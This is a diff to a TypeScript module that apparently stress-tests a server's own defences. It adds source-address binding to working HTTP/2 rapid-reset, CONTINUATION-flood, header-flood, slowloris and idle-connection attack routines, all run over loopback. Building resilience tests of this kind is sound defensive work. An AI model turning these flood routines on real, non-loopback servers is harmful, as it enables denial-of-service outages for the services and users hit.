@@ -3,6 +3,11 @@
 // baseline). Loopback only; every attack runs for a given time and then lets go of everything
 // it opened; every connect and request is bounded. Runs on the caller's main thread.
 //
+// Each attack connects from the source address it is given (`from`): an attacker is a peer
+// of its own, as on a real network, so the server's per-peer penalty (ingest/http/peer-guard.ts)
+// can tell it from the legitimate client. Linux routes all of 127.0.0.0/8 to lo, so any
+// 127.x.y.z is a loopback source; the legitimate load connects from 127.0.0.1.
+//
 //   rapid reset         HTTP/2 sessions opening streams and cancelling them at once (CVE-2023-44487)
 //   continuation flood  one HEADERS frame without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27983 family)
 //   header flood        HTTP/1.1 header lines without end
@@ -51,8 +56,8 @@ function headerBlock(bytes: number): Buffer {
   return Buffer.concat(Array.from({ length: Math.floor(bytes / field.length) }, () => field));
 }
 
-function connect(port: number): Promise<net.Socket> {
-  const socket = net.connect({ host: '127.0.0.1', port });
+function connect(port: number, from: string): Promise<net.Socket> {
+  const socket = net.connect({ host: '127.0.0.1', port, localAddress: from });
   socket.on('error', () => undefined);
   return withTimeout(
     new Promise<net.Socket>((resolve, reject) => {
@@ -88,7 +93,7 @@ export interface AttackReport {
 }
 
 /** HTTP/2 sessions that open streams and cancel them at once, reconnecting whenever the server closes one. */
-export async function rapidReset(url: string, durationMs: number, sessions = 4): Promise<AttackReport> {
+export async function rapidReset(url: string, durationMs: number, from: string, sessions = 4): Promise<AttackReport> {
   const deadline = performance.now() + durationMs;
   let resets = 0;
   let connects = 0;
@@ -97,7 +102,7 @@ export async function rapidReset(url: string, durationMs: number, sessions = 4):
     while (performance.now() < deadline) {
       let session: http2.ClientHttp2Session;
       try {
-        session = http2.connect(url);
+        session = http2.connect(url, { createConnection: (authority) => net.connect({ host: authority.hostname, port: Number(authority.port), localAddress: from }) });
         session.on('error', () => undefined);
         await withTimeout(new Promise<void>((resolve, reject) => session.once('connect', () => resolve()).once('error', reject)), attackLimits.connectTimeoutMs, 'a rapid-reset session');
       } catch {
@@ -127,7 +132,7 @@ export async function rapidReset(url: string, durationMs: number, sessions = 4):
 }
 
 /** One connection at a time: a HEADERS frame without END_HEADERS, then CONTINUATION frames until the server hangs up. */
-export async function continuationFlood(port: number, durationMs: number): Promise<AttackReport> {
+export async function continuationFlood(port: number, durationMs: number, from: string): Promise<AttackReport> {
   const deadline = performance.now() + durationMs;
   const fragment = headerBlock(16_000);
   const continuation = frame(frameTypes.continuation, 0, 1, fragment);
@@ -135,7 +140,7 @@ export async function continuationFlood(port: number, durationMs: number): Promi
   let closedByServer = 0;
   let bytes = 0;
   while (performance.now() < deadline) {
-    const socket = await connect(port).catch(() => undefined);
+    const socket = await connect(port, from).catch(() => undefined);
     if (socket === undefined) continue;
     connections++;
     socket.resume();
@@ -153,7 +158,7 @@ export async function continuationFlood(port: number, durationMs: number): Promi
 }
 
 /** One connection at a time: an HTTP/1.1 request line, then header lines until the server hangs up. */
-export async function headerFlood(port: number, durationMs: number): Promise<AttackReport> {
+export async function headerFlood(port: number, durationMs: number, from: string): Promise<AttackReport> {
   const deadline = performance.now() + durationMs;
   const lines = Buffer.from('X-Flood: ' + 'a'.repeat(100) + '\r\n', 'latin1');
   const chunk = Buffer.concat(Array.from({ length: 150 }, () => lines));
@@ -161,7 +166,7 @@ export async function headerFlood(port: number, durationMs: number): Promise<Att
   let closedByServer = 0;
   let answered431 = 0;
   while (performance.now() < deadline) {
-    const socket = await connect(port).catch(() => undefined);
+    const socket = await connect(port, from).catch(() => undefined);
     if (socket === undefined) continue;
     connections++;
     let reply = '';
@@ -180,10 +185,10 @@ export async function headerFlood(port: number, durationMs: number): Promise<Att
 }
 
 /** `connections` HTTP/1.1 requests whose header lines trickle in, one a second, for the whole duration. */
-export async function slowloris(port: number, durationMs: number, connections = 500): Promise<AttackReport> {
+export async function slowloris(port: number, durationMs: number, from: string, connections = 500): Promise<AttackReport> {
   const sockets: net.Socket[] = [];
   for (let opened = 0; opened < connections; opened += attackLimits.connectBurst) {
-    const burst = await Promise.allSettled(Array.from({ length: Math.min(attackLimits.connectBurst, connections - opened) }, () => connect(port)));
+    const burst = await Promise.allSettled(Array.from({ length: Math.min(attackLimits.connectBurst, connections - opened) }, () => connect(port, from)));
     for (const result of burst) if (result.status === 'fulfilled') sockets.push(result.value);
   }
   let closedByServer = 0;
@@ -210,13 +215,13 @@ export interface IdleConnections {
 }
 
 /** Up to `count` HTTP/2 sessions that send the preface and SETTINGS, read what comes, and say nothing more. */
-export async function idleConnections(port: number, count: number): Promise<IdleConnections> {
+export async function idleConnections(port: number, count: number, from: string): Promise<IdleConnections> {
   const sockets: net.Socket[] = [];
   let closed = 0;
   let closing = false;
   const hello = Buffer.concat([preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))]);
   for (let opened = 0; opened < count; opened += attackLimits.connectBurst) {
-    const burst = await Promise.allSettled(Array.from({ length: Math.min(attackLimits.connectBurst, count - opened) }, () => connect(port)));
+    const burst = await Promise.allSettled(Array.from({ length: Math.min(attackLimits.connectBurst, count - opened) }, () => connect(port, from)));
     for (const result of burst) {
       if (result.status !== 'fulfilled') continue;
       const socket = result.value;
